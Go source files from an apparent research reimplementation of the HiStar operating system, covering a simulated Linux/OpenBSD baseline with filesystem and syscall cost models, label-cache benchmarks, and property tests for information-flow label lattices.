package baseline

import (
	"bytes"
	"errors"
	"testing"
	"time"

	"histar/internal/disk"
	"histar/internal/vclock"
)

func newOS(t *testing.T, v Variant) (*OS, *vclock.Clock, *disk.Disk) {
	t.Helper()
	clk := &vclock.Clock{}
	d := disk.New(disk.Params{
		Sectors:              1 << 19,
		SeekTime:             8500 * time.Microsecond,
		RotationalLatency:    4150 * time.Microsecond,
		BandwidthBytesPerSec: 58e6,
		WriteCache:           true,
		ReadAhead:            256 * 1024,
	}, clk)
	return New(d, clk, v), clk, d
}

func TestWriteReadUnlink(t *testing.T) {
	o, _, _ := newOS(t, VariantLinux)
	o.WriteFile("/dir/a.txt", []byte("hello"))
	data, err := o.ReadFile("/dir/a.txt")
	if err != nil || string(data) != "hello" {
		t.Fatalf("read = %q, %v", data, err)
	}
	if err := o.Unlink("/dir/a.txt", false); err != nil {
		t.Fatal(err)
	}
	if _, err := o.ReadFile("/dir/a.txt"); !errors.Is(err, ErrNotExist) {
		t.Errorf("read after unlink: %v", err)
	}
	if _, err := o.ReadFile("/never"); !errors.Is(err, ErrNotExist) {
		t.Errorf("missing file: %v", err)
	}
}

func TestFsyncCostsDiskTimeOnLinuxNotOpenBSD(t *testing.T) {
	linux, lclk, _ := newOS(t, VariantLinux)
	bsd, bclk, _ := newOS(t, VariantOpenBSD)
	payload := bytes.Repeat([]byte("x"), 1024)
	for i := 0; i < 20; i++ {
		linux.WriteFile("/d/f", payload)
		linux.Fsync("/d/f")
		bsd.WriteFile("/d/f", payload)
		bsd.Fsync("/d/f")
	}
	if lclk.Now() <= bclk.Now() {
		t.Errorf("journalled fsync (%v) should cost more than mfs (%v)", lclk.Now(), bclk.Now())
	}
}

func TestClusteredUncachedReadsBenefitFromReadAhead(t *testing.T) {
	o, _, d := newOS(t, VariantLinux)
	payload := bytes.Repeat([]byte("y"), 1024)
	for i := 0; i < 200; i++ {
		path := "/cluster/f" + string(rune('a'+i%26)) + string(rune('0'+i/26))
		o.WriteFile(path, payload)
		if err := o.Fsync(path); err != nil {
			t.Fatal(err)
		}
	}
	d.ResetStats()
	for i := 0; i < 200; i++ {
		path := "/cluster/f" + string(rune('a'+i%26)) + string(rune('0'+i/26))
		if _, err := o.ReadFileUncached(path); err != nil {
			t.Fatal(err)
		}
	}
	st := d.Stats()
	if st.PrefetchHits == 0 {
		t.Error("clustered reads should hit the drive's read-ahead")
	}
	if st.Seeks > 100 {
		t.Errorf("clustered reads should not seek per file: %d seeks", st.Seeks)
	}
}

func TestForkExecAndPipeCountSyscalls(t *testing.T) {
	o, _, _ := newOS(t, VariantLinux)
	before := o.Syscalls()
	o.ForkExec()
	if got := o.Syscalls() - before; got != 9 {
		t.Errorf("fork/exec syscalls = %d, want 9", got)
	}
	p := o.NewPipe()
	done := make(chan []byte, 1)
	go func() { done <- p.Read() }()
	p.Write([]byte("ping"))
	if string(<-done) != "ping" {
		t.Error("pipe round trip failed")
	}
}

func TestSyncFlushesEverything(t *testing.T) {
	o, clk, _ := newOS(t, VariantLinux)
	for i := 0; i < 10; i++ {
		o.WriteFile("/batch/f"+string(rune('0'+i)), bytes.Repeat([]byte("z"), 512))
	}
	before := clk.Now()
	if err := o.Sync(); err != nil {
		t.Fatal(err)
	}
	if clk.Now() == before {
		t.Error("Sync should have written to disk")
	}
}
