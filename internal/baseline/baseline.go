// Package baseline models the comparison operating systems of the paper's
// evaluation (Section 7): a Linux-like monolithic kernel with an ext3-style
// journalling file system, and an OpenBSD-like variant with a memory file
// system.  It is not a faithful Linux — it is the minimal model needed to
// reproduce the *shape* of Figure 12 and Figure 13 on the same simulated
// disk and network as the HiStar stack: cheap 9-syscall fork/exec,
// kernel-mediated pipes, per-file metadata journalling (rather than
// whole-system checkpoints), and block-group allocation that clusters the
// files of a directory so the drive's read-ahead is effective.
package baseline

import (
	"errors"
	"sort"
	"sync"
	"time"

	"histar/internal/disk"
	"histar/internal/vclock"
)

// Variant selects which comparison system is modelled.
type Variant int

// Variants.
const (
	VariantLinux Variant = iota
	VariantOpenBSD
)

// ErrNotExist is returned for missing files.
var ErrNotExist = errors.New("baseline: no such file")

// syscallCost is the modelled cost of crossing the kernel boundary on the
// baseline systems; it stands in for the trap/return plus minimal kernel
// work, and exists so fork/exec and IPC comparisons account for the baseline
// doing *some* work per call rather than none.
const syscallCost = 300 * time.Nanosecond

const (
	journalStart = 4096
	journalSize  = 64 << 20
	dataStart    = journalStart + journalSize
	blockSize    = 4096
	// dirClusterSize is the contiguous region reserved per directory by the
	// block-group allocator; small files of one directory land next to each
	// other, which is what makes Linux's uncached small-file reads fast.
	dirClusterSize = 16 << 20
)

type file struct {
	data    []byte
	diskOff int64
	onDisk  bool
}

// OS is one baseline machine instance.
type OS struct {
	mu      sync.Mutex
	variant Variant
	d       *disk.Disk
	clk     *vclock.Clock

	files       map[string]*file
	dirCluster  map[string]int64 // directory → next free offset in its cluster
	nextCluster int64
	journalOff  int64

	syscalls uint64
}

// New creates a baseline OS on the given simulated disk.  The OpenBSD
// variant uses a memory file system, so its file operations never touch the
// disk (matching the paper's mfs configuration, which is also why the paper
// omits its synchronous numbers).
func New(d *disk.Disk, clk *vclock.Clock, variant Variant) *OS {
	return &OS{
		variant:     variant,
		d:           d,
		clk:         clk,
		files:       make(map[string]*file),
		dirCluster:  make(map[string]int64),
		nextCluster: dataStart,
		journalOff:  journalStart,
	}
}

// Syscalls returns the number of modelled system calls issued.
func (o *OS) Syscalls() uint64 {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.syscalls
}

func (o *OS) syscall(n int) {
	o.mu.Lock()
	o.syscalls += uint64(n)
	o.mu.Unlock()
	if o.clk != nil {
		o.clk.Advance(time.Duration(n) * syscallCost)
	}
}

func dirOf(path string) string {
	for i := len(path) - 1; i >= 0; i-- {
		if path[i] == '/' {
			return path[:i]
		}
	}
	return "/"
}

// allocInCluster returns the disk offset for a new file, packing files of
// the same directory contiguously (the ext3 block-group behaviour).
func (o *OS) allocInCluster(path string, size int) int64 {
	dir := dirOf(path)
	next, ok := o.dirCluster[dir]
	if !ok {
		next = o.nextCluster
		o.nextCluster += dirClusterSize
	}
	off := next
	blocks := (int64(size) + blockSize - 1) / blockSize
	if blocks == 0 {
		blocks = 1
	}
	o.dirCluster[dir] = next + blocks*blockSize
	return off
}

// WriteFile creates or replaces a file (asynchronously: data sits in the
// page cache until Fsync or Sync).
func (o *OS) WriteFile(path string, data []byte) {
	o.syscall(3) // open, write, close
	o.mu.Lock()
	f := o.files[path]
	if f == nil {
		f = &file{}
		o.files[path] = f
	}
	f.data = append([]byte(nil), data...)
	f.onDisk = false
	o.mu.Unlock()
}

// Fsync makes one file durable: the ext3-style path writes the file's data
// blocks to its (clustered) location plus a journal record for the metadata,
// then flushes — it does not checkpoint anything else.
func (o *OS) Fsync(path string) error {
	o.syscall(1)
	if o.variant == VariantOpenBSD {
		return nil // mfs: nothing to make durable
	}
	o.mu.Lock()
	f := o.files[path]
	if f == nil {
		o.mu.Unlock()
		return ErrNotExist
	}
	if f.diskOff == 0 {
		f.diskOff = o.allocInCluster(path, len(f.data))
	}
	data := f.data
	off := f.diskOff
	journalOff := o.journalOff
	o.journalOff += 512
	if o.journalOff >= journalStart+journalSize {
		o.journalOff = journalStart
	}
	f.onDisk = true
	o.mu.Unlock()

	if len(data) > 0 {
		if _, err := o.d.WriteAt(data, off); err != nil {
			return err
		}
	}
	// Journal record for the inode/directory metadata.
	rec := make([]byte, 512)
	copy(rec, path)
	if _, err := o.d.WriteAt(rec, journalOff); err != nil {
		return err
	}
	return o.d.Flush()
}

// Unlink removes a file; with sync set, the metadata journal record is
// flushed immediately (Linux writes only the modified directory entry, which
// is why its synchronous unlinks beat HiStar's whole-system checkpoints).
func (o *OS) Unlink(path string, sync bool) error {
	o.syscall(1)
	o.mu.Lock()
	_, ok := o.files[path]
	delete(o.files, path)
	journalOff := o.journalOff
	o.journalOff += 512
	if o.journalOff >= journalStart+journalSize {
		o.journalOff = journalStart
	}
	o.mu.Unlock()
	if !ok {
		return ErrNotExist
	}
	if !sync || o.variant == VariantOpenBSD {
		return nil
	}
	rec := make([]byte, 512)
	copy(rec, "unlink "+path)
	if _, err := o.d.WriteAt(rec, journalOff); err != nil {
		return err
	}
	return o.d.Flush()
}

// Sync flushes all dirty files and metadata (the end-of-phase sync of the
// asynchronous benchmark variants).
func (o *OS) Sync() error {
	o.syscall(1)
	if o.variant == VariantOpenBSD {
		return nil
	}
	o.mu.Lock()
	paths := make([]string, 0)
	for p, f := range o.files {
		if !f.onDisk {
			paths = append(paths, p)
		}
	}
	sort.Strings(paths)
	o.mu.Unlock()
	for _, p := range paths {
		if err := o.Fsync(p); err != nil {
			return err
		}
	}
	return nil
}

// ReadFile reads from the page cache.
func (o *OS) ReadFile(path string) ([]byte, error) {
	o.syscall(3)
	o.mu.Lock()
	defer o.mu.Unlock()
	f := o.files[path]
	if f == nil {
		return nil, ErrNotExist
	}
	return append([]byte(nil), f.data...), nil
}

// ReadFileUncached models a cold-cache read: the file's blocks are fetched
// from their clustered on-disk location, so consecutive files of the same
// directory are serviced largely by the drive's read-ahead.
func (o *OS) ReadFileUncached(path string) ([]byte, error) {
	o.syscall(3)
	o.mu.Lock()
	f := o.files[path]
	o.mu.Unlock()
	if f == nil {
		return nil, ErrNotExist
	}
	if o.variant == VariantOpenBSD || !f.onDisk {
		// Memory file system (or never written back): no disk access.
		return append([]byte(nil), f.data...), nil
	}
	buf := make([]byte, len(f.data))
	if len(buf) > 0 {
		if _, err := o.d.ReadAt(buf, f.diskOff); err != nil {
			return nil, err
		}
	}
	return append([]byte(nil), f.data...), nil
}

// ---------------------------------------------------------------------------
// Process and IPC cost models.
// ---------------------------------------------------------------------------

// ForkExec models the baseline's fork + exec of a trivial statically linked
// binary + exit + wait: 9 system calls and a small amount of page-table and
// VM setup work.
func (o *OS) ForkExec() {
	o.syscall(9)
	// Copy-on-write setup and image load: a handful of page-sized copies.
	pages := make([][]byte, 8)
	for i := range pages {
		pages[i] = make([]byte, 4096)
		pages[i][0] = byte(i)
	}
}

// Pipe is an in-kernel pipe between two baseline processes.
type Pipe struct {
	o  *OS
	ch chan []byte
}

// NewPipe creates a pipe.
func (o *OS) NewPipe() *Pipe {
	o.syscall(1)
	return &Pipe{o: o, ch: make(chan []byte, 16)}
}

// Write sends a message through the pipe (one syscall).
func (p *Pipe) Write(data []byte) {
	p.o.syscall(1)
	p.ch <- append([]byte(nil), data...)
}

// Read receives a message from the pipe (one syscall).
func (p *Pipe) Read() []byte {
	p.o.syscall(1)
	return <-p.ch
}
