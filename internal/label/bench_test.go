package label

import (
	"math/rand"
	"sync"
	"testing"
)

// Benchmarks for the canonical label representation and the sharded
// comparison cache.  These are the perf baseline future PRs compare against:
//
//	go test -bench=. -benchmem ./internal/label
//
// BenchmarkCacheParallel_Sharded vs BenchmarkCacheParallel_SingleLock shows
// the scaling difference between the sharded design and the old global
// RWMutex cache (kept here, in miniature, for exactly that comparison).

func benchLabels(n int, allowStar bool) []Label {
	r := rand.New(rand.NewSource(42))
	out := make([]Label, n)
	for i := range out {
		out[i] = genLabel(r, allowStar)
	}
	return out
}

func BenchmarkLeqDirect(b *testing.B) {
	labels := benchLabels(64, false)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		a := labels[i%len(labels)]
		m := labels[(i*7+1)%len(labels)]
		_ = a.Leq(m)
	}
}

func BenchmarkLeqCachedHit(b *testing.B) {
	c := NewCache(0)
	a := New(L1, P(Category(1), L3), P(Category(2), L0))
	m := New(L2, P(Category(1), L3))
	c.Leq(a, m) // warm
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = c.Leq(a, m)
	}
}

func BenchmarkLeqCachedMiss(b *testing.B) {
	// Every lookup misses: labels rotate through a set larger than the cache.
	c := NewCache(64)
	labels := benchLabels(512, false)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = c.Leq(labels[i%len(labels)], labels[(i*31+7)%len(labels)])
	}
}

func BenchmarkCanObserveCachedHit(b *testing.B) {
	c := NewCache(0)
	thr := New(L1, P(Category(1), Star), P(Category(2), L3))
	obj := New(L1, P(Category(2), L3))
	c.CanObserve(thr, obj) // warm
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = c.CanObserve(thr, obj)
	}
}

func BenchmarkJoin(b *testing.B) {
	labels := benchLabels(64, false)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		a := labels[i%len(labels)]
		m := labels[(i*13+3)%len(labels)]
		_ = a.Join(m)
	}
}

func BenchmarkFingerprint(b *testing.B) {
	// Fingerprint is a stored-field read on the canonical representation.
	l := New(L1, P(Category(1), L3), P(Category(2), L0), P(Category(3), L2))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = l.Fingerprint()
	}
}

func BenchmarkRaiseJNoStar(b *testing.B) {
	l := New(L1, P(Category(1), L3), P(Category(2), L0))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = l.RaiseJ()
	}
}

func BenchmarkNew(b *testing.B) {
	pairs := []Pair{P(Category(9), L3), P(Category(4), L0), P(Category(7), Star)}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = New(L1, pairs...)
	}
}

// singleLockCache replicates the pre-shard design: one RWMutex around one
// map, cleared wholesale when full.  It exists only as the benchmark
// baseline for the sharded cache.
type singleLockCache struct {
	mu  sync.RWMutex
	m   map[cacheKey]bool
	max int
}

func newSingleLockCache(max int) *singleLockCache {
	return &singleLockCache{m: make(map[cacheKey]bool), max: max}
}

func (c *singleLockCache) Leq(l, m Label) bool {
	k := cacheKey{l.Fingerprint(), m.Fingerprint()}
	c.mu.RLock()
	v, ok := c.m[k]
	c.mu.RUnlock()
	if ok {
		return v
	}
	v = l.Leq(m)
	c.mu.Lock()
	if len(c.m) >= c.max {
		c.m = make(map[cacheKey]bool)
	}
	c.m[k] = v
	c.mu.Unlock()
	return v
}

func benchParallelCache(b *testing.B, leq func(l, m Label) bool) {
	labels := benchLabels(128, true)
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			a := labels[i%len(labels)]
			m := labels[(i*31+7)%len(labels)]
			_ = leq(a, m)
			i++
		}
	})
}

func BenchmarkCacheParallel_Sharded(b *testing.B) {
	c := NewCache(0)
	benchParallelCache(b, c.Leq)
}

func BenchmarkCacheParallel_SingleLock(b *testing.B) {
	c := newSingleLockCache(65536)
	benchParallelCache(b, c.Leq)
}

// benchChurn models the kernel's workload: a small hot set (thread and
// object labels compared on every access) interleaved with a long tail of
// transient comparisons (gate calls, short-lived segments).  The cold
// stream keeps filling the cache; the old design's global clear then
// discarded the hot working set with it in one instant, where per-shard
// eviction sheds only one shard's slice at a time (the deterministic
// demonstration is TestShardedEvictionBoundsMissStorms).  Raw single-core
// ns/op is similar for both designs — recomputing a Leq is cheap — so read
// this benchmark together with the Parallel ones on a multicore machine,
// where the single lock serializes and the shards do not.
func benchChurn(b *testing.B, leq func(l, m Label) bool) {
	hot := benchLabels(24, false)   // 576 hot pairs, a fraction of the bound
	cold := benchLabels(256, false) // 65536 pairs: an effectively miss-only stream
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if i%2 == 0 {
			_ = leq(hot[i%len(hot)], hot[(i/len(hot))%len(hot)])
		} else {
			_ = leq(cold[i%len(cold)], cold[(i*131+17)%len(cold)])
		}
	}
}

func BenchmarkCacheChurn_Sharded(b *testing.B) {
	c := NewCache(4096)
	benchChurn(b, c.Leq)
}

func BenchmarkCacheChurn_SingleLock(b *testing.B) {
	c := newSingleLockCache(4096)
	benchChurn(b, c.Leq)
}
