package label

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// genLabel builds a random label over a small shared pool of categories so
// that the lattice operations routinely interact on common categories.
func genLabel(r *rand.Rand, allowStar bool) Label {
	defaults := []Level{L0, L1, L2, L3}
	def := defaults[r.Intn(len(defaults))]
	n := r.Intn(5)
	pairs := make([]Pair, 0, n)
	for i := 0; i < n; i++ {
		c := Category(r.Intn(8) + 1)
		levels := []Level{L0, L1, L2, L3}
		if allowStar {
			levels = append(levels, Star)
		}
		pairs = append(pairs, P(c, levels[r.Intn(len(levels))]))
	}
	return New(def, pairs...)
}

// quickLabel wraps Label for testing/quick generation.
type quickLabel struct{ L Label }

// Generate implements quick.Generator.
func (quickLabel) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(quickLabel{L: genLabel(r, false)})
}

// quickThreadLabel generates labels that may contain ⋆.
type quickThreadLabel struct{ L Label }

func (quickThreadLabel) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(quickThreadLabel{L: genLabel(r, true)})
}

var quickCfg = &quick.Config{MaxCount: 2000}

func TestPropLeqReflexive(t *testing.T) {
	f := func(a quickLabel) bool { return a.L.Leq(a.L) }
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqAntisymmetric(t *testing.T) {
	f := func(a, b quickLabel) bool {
		if a.L.Leq(b.L) && b.L.Leq(a.L) {
			return a.L.Equal(b.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqTransitive(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		if a.L.Leq(b.L) && b.L.Leq(c.L) {
			return a.L.Leq(c.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinIsUpperBound(t *testing.T) {
	f := func(a, b quickLabel) bool {
		j := a.L.Join(b.L)
		return a.L.Leq(j) && b.L.Leq(j)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinIsLeast(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		// Any common upper bound c dominates the join.
		if a.L.Leq(c.L) && b.L.Leq(c.L) {
			return a.L.Join(b.L).Leq(c.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMeetIsLowerBound(t *testing.T) {
	f := func(a, b quickLabel) bool {
		m := a.L.Meet(b.L)
		return m.Leq(a.L) && m.Leq(b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMeetIsGreatest(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		if c.L.Leq(a.L) && c.L.Leq(b.L) {
			return c.L.Leq(a.L.Meet(b.L))
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinCommutativeAssociativeIdempotent(t *testing.T) {
	comm := func(a, b quickLabel) bool {
		return a.L.Join(b.L).Equal(b.L.Join(a.L))
	}
	assoc := func(a, b, c quickLabel) bool {
		return a.L.Join(b.L).Join(c.L).Equal(a.L.Join(b.L.Join(c.L)))
	}
	idem := func(a quickLabel) bool { return a.L.Join(a.L).Equal(a.L) }
	for name, f := range map[string]interface{}{"comm": comm, "assoc": assoc, "idem": idem} {
		if err := quick.Check(f, quickCfg); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPropMeetCommutativeAssociativeIdempotent(t *testing.T) {
	comm := func(a, b quickLabel) bool {
		return a.L.Meet(b.L).Equal(b.L.Meet(a.L))
	}
	assoc := func(a, b, c quickLabel) bool {
		return a.L.Meet(b.L).Meet(c.L).Equal(a.L.Meet(b.L.Meet(c.L)))
	}
	idem := func(a quickLabel) bool { return a.L.Meet(a.L).Equal(a.L) }
	for name, f := range map[string]interface{}{"comm": comm, "assoc": assoc, "idem": idem} {
		if err := quick.Check(f, quickCfg); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPropAbsorption(t *testing.T) {
	f := func(a, b quickLabel) bool {
		return a.L.Join(a.L.Meet(b.L)).Equal(a.L) && a.L.Meet(a.L.Join(b.L)).Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqIffJoinEqualsRHS(t *testing.T) {
	f := func(a, b quickLabel) bool {
		return a.L.Leq(b.L) == a.L.Join(b.L).Equal(b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropRaiseJLowerStarRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		return a.L.RaiseJ().LowerStar().Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMinObserveLabelIsSufficientAndMinimal(t *testing.T) {
	f := func(ta quickThreadLabel, ob quickLabel) bool {
		min := MinObserveLabel(ta.L, ob.L)
		if !ta.L.Leq(min) {
			return false
		}
		return CanObserve(min, ob.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropModifyImpliesObserve(t *testing.T) {
	f := func(ta quickThreadLabel, ob quickLabel) bool {
		if CanModify(ta.L, ob.L) {
			return CanObserve(ta.L, ob.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropCacheMatchesDirect(t *testing.T) {
	cache := NewCache(0)
	f := func(a, b quickThreadLabel) bool {
		return cache.Leq(a.L, b.L) == a.L.Leq(b.L) &&
			cache.CanObserve(a.L, b.L) == CanObserve(a.L, b.L) &&
			cache.CanModify(a.L, b.L) == CanModify(a.L, b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropFingerprintEqualLabelsAgree(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		// Rebuilding the same label from explicit pairs must fingerprint
		// identically.
		pairs := make([]Pair, 0, a.L.NumExplicit())
		for _, c := range a.L.Explicit() {
			pairs = append(pairs, P(c, a.L.Get(c)))
		}
		rebuilt := New(a.L.Default(), pairs...)
		return rebuilt.Fingerprint() == a.L.Fingerprint()
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropParseRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		parsed, err := Parse(a.L.String(), nil)
		if err != nil {
			return false
		}
		return parsed.Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}
