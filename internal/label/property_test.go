package label

import (
	"math/rand"
	"reflect"
	"sync"
	"testing"
	"testing/quick"
)

// genLabel builds a random label over a small shared pool of categories so
// that the lattice operations routinely interact on common categories.
func genLabel(r *rand.Rand, allowStar bool) Label {
	defaults := []Level{L0, L1, L2, L3}
	def := defaults[r.Intn(len(defaults))]
	n := r.Intn(5)
	pairs := make([]Pair, 0, n)
	for i := 0; i < n; i++ {
		c := Category(r.Intn(8) + 1)
		levels := []Level{L0, L1, L2, L3}
		if allowStar {
			levels = append(levels, Star)
		}
		pairs = append(pairs, P(c, levels[r.Intn(len(levels))]))
	}
	return New(def, pairs...)
}

// quickLabel wraps Label for testing/quick generation.
type quickLabel struct{ L Label }

// Generate implements quick.Generator.
func (quickLabel) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(quickLabel{L: genLabel(r, false)})
}

// quickThreadLabel generates labels that may contain ⋆.
type quickThreadLabel struct{ L Label }

func (quickThreadLabel) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(quickThreadLabel{L: genLabel(r, true)})
}

var quickCfg = &quick.Config{MaxCount: 2000}

func TestPropLeqReflexive(t *testing.T) {
	f := func(a quickLabel) bool { return a.L.Leq(a.L) }
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqAntisymmetric(t *testing.T) {
	f := func(a, b quickLabel) bool {
		if a.L.Leq(b.L) && b.L.Leq(a.L) {
			return a.L.Equal(b.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqTransitive(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		if a.L.Leq(b.L) && b.L.Leq(c.L) {
			return a.L.Leq(c.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinIsUpperBound(t *testing.T) {
	f := func(a, b quickLabel) bool {
		j := a.L.Join(b.L)
		return a.L.Leq(j) && b.L.Leq(j)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinIsLeast(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		// Any common upper bound c dominates the join.
		if a.L.Leq(c.L) && b.L.Leq(c.L) {
			return a.L.Join(b.L).Leq(c.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMeetIsLowerBound(t *testing.T) {
	f := func(a, b quickLabel) bool {
		m := a.L.Meet(b.L)
		return m.Leq(a.L) && m.Leq(b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMeetIsGreatest(t *testing.T) {
	f := func(a, b, c quickLabel) bool {
		if c.L.Leq(a.L) && c.L.Leq(b.L) {
			return c.L.Leq(a.L.Meet(b.L))
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropJoinCommutativeAssociativeIdempotent(t *testing.T) {
	comm := func(a, b quickLabel) bool {
		return a.L.Join(b.L).Equal(b.L.Join(a.L))
	}
	assoc := func(a, b, c quickLabel) bool {
		return a.L.Join(b.L).Join(c.L).Equal(a.L.Join(b.L.Join(c.L)))
	}
	idem := func(a quickLabel) bool { return a.L.Join(a.L).Equal(a.L) }
	for name, f := range map[string]interface{}{"comm": comm, "assoc": assoc, "idem": idem} {
		if err := quick.Check(f, quickCfg); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPropMeetCommutativeAssociativeIdempotent(t *testing.T) {
	comm := func(a, b quickLabel) bool {
		return a.L.Meet(b.L).Equal(b.L.Meet(a.L))
	}
	assoc := func(a, b, c quickLabel) bool {
		return a.L.Meet(b.L).Meet(c.L).Equal(a.L.Meet(b.L.Meet(c.L)))
	}
	idem := func(a quickLabel) bool { return a.L.Meet(a.L).Equal(a.L) }
	for name, f := range map[string]interface{}{"comm": comm, "assoc": assoc, "idem": idem} {
		if err := quick.Check(f, quickCfg); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPropAbsorption(t *testing.T) {
	f := func(a, b quickLabel) bool {
		return a.L.Join(a.L.Meet(b.L)).Equal(a.L) && a.L.Meet(a.L.Join(b.L)).Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropLeqIffJoinEqualsRHS(t *testing.T) {
	f := func(a, b quickLabel) bool {
		return a.L.Leq(b.L) == a.L.Join(b.L).Equal(b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropRaiseJLowerStarRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		return a.L.RaiseJ().LowerStar().Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropMinObserveLabelIsSufficientAndMinimal(t *testing.T) {
	f := func(ta quickThreadLabel, ob quickLabel) bool {
		min := MinObserveLabel(ta.L, ob.L)
		if !ta.L.Leq(min) {
			return false
		}
		return CanObserve(min, ob.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropModifyImpliesObserve(t *testing.T) {
	f := func(ta quickThreadLabel, ob quickLabel) bool {
		if CanModify(ta.L, ob.L) {
			return CanObserve(ta.L, ob.L)
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropCacheMatchesDirect(t *testing.T) {
	cache := NewCache(0)
	f := func(a, b quickThreadLabel) bool {
		return cache.Leq(a.L, b.L) == a.L.Leq(b.L) &&
			cache.CanObserve(a.L, b.L) == CanObserve(a.L, b.L) &&
			cache.CanModify(a.L, b.L) == CanModify(a.L, b.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropFingerprintEqualLabelsAgree(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		// Rebuilding the same label from explicit pairs must fingerprint
		// identically.
		pairs := make([]Pair, 0, a.L.NumExplicit())
		for _, c := range a.L.Explicit() {
			pairs = append(pairs, P(c, a.L.Get(c)))
		}
		rebuilt := New(a.L.Default(), pairs...)
		return rebuilt.Fingerprint() == a.L.Fingerprint()
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropParseRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		parsed, err := Parse(a.L.String(), nil)
		if err != nil {
			return false
		}
		return parsed.Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

// ---------------------------------------------------------------------------
// Reference-model equivalence: the canonical slice-backed implementation must
// agree with a naive map-based model on randomized labels.
// ---------------------------------------------------------------------------

// refLabel is the simple map-from-category-to-level reference model the
// original implementation used; it is deliberately naive.
type refLabel struct {
	def Level
	m   map[Category]Level
}

func refFrom(l Label) refLabel {
	r := refLabel{def: l.Default(), m: make(map[Category]Level)}
	for _, c := range l.Explicit() {
		r.m[c] = l.Get(c)
	}
	return r
}

func (r refLabel) get(c Category) Level {
	if lv, ok := r.m[c]; ok {
		return lv
	}
	return r.def
}

func (r refLabel) cats(other refLabel) map[Category]bool {
	out := make(map[Category]bool)
	for c := range r.m {
		out[c] = true
	}
	for c := range other.m {
		out[c] = true
	}
	return out
}

func refLeq(a, b refLabel) bool {
